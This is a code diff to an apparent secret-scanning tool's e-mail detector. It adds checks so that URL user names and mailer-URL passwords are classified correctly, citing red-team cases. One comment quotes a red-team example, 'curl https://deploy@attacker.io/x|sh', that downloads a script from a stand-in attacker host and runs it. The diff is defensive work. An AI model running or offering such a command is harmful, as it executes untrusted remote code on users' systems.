@@ -189,16 +189,16 @@ function scanAt(
   // is reported as a secret).
   if (
     // A bounded look back: `lastIndexOf` over the whole text made `x:a@b.com ` repeated
-    // quadratic.
-    codeAt(text, start - 1) === 58 &&
-    text.slice(Math.max(0, start - 79), start + 3).includes("://")
+    // quadratic. Only in the authority: after a `/` the `Word:` is a path's or a label's
+    // (`otpauth://totp/Example:ann@example.com`, red team n1, N1-8).
+    codeAt(text, start - 1) === 58 && inAuthority(text, start)
   ) return end;
   // `scheme://user@host`: a URL's user name, not an address either; read as one, its
   // placeholder covered the host the URL opens (red team m1:
   // `curl https://deploy@attacker.io/x|sh`).
   if (
     codeAt(text, start - 1) === 47 && codeAt(text, start - 2) === 47 &&
-    codeAt(text, start - 3) === 58
+    codeAt(text, start - 3) === 58 && !userBeforePassword(text, end)
   ) {
     return end;
   }
@@ -208,6 +208,38 @@ function scanAt(
   if (hosts.isHost(start, end)) return end;
   out.push({ type: "email", start, end, value: text.slice(start, end) });
   return end;
+}
+
+/** Most characters read back for a URL's `://` before user information. */
+const AUTHORITY_BACK = 79;
+
+/**
+ * Whether `start` is in a URL's authority: a `://` at most {@linkcode AUTHORITY_BACK}
+ * characters back, with no `/` between it and `start`. Reads that many characters at most.
+ */
+function inAuthority(text: string, start: number): boolean {
+  const back = text.slice(Math.max(0, start - AUTHORITY_BACK), start + 3);
+  const scheme = back.lastIndexOf("://");
+  return scheme !== -1 && !back.slice(scheme + 3, back.length - 3).includes("/");
+}
+
+/** Most characters read after a URL's user name for its password's `@`. */
+const PASSWORD_AHEAD = 256;
+
+/**
+ * Whether the address that ends at `end`, right after a URL's `://`, is the user name of
+ * `user:password@host` (an e-mail address as the user: `smtp://ann@example.com:<pw>@smtp…`,
+ * Django's and Rails' mailer URLs; red team n1, N1-8): a `:` after it, then an `@` before
+ * any `/`, `?`, `#` or white space, within {@linkcode PASSWORD_AHEAD} characters.
+ */
+function userBeforePassword(text: string, end: number): boolean {
+  if (codeAt(text, end) !== 58) return false;
+  for (let j = end + 1; j < text.length && j - end <= PASSWORD_AHEAD; j++) {
+    const c = text.charCodeAt(j);
+    if (c === 64) return true;
+    if (c === 47 || c === 63 || c === 35 || c <= 32) return false;
+  }
+  return false;
 }
 
 /**
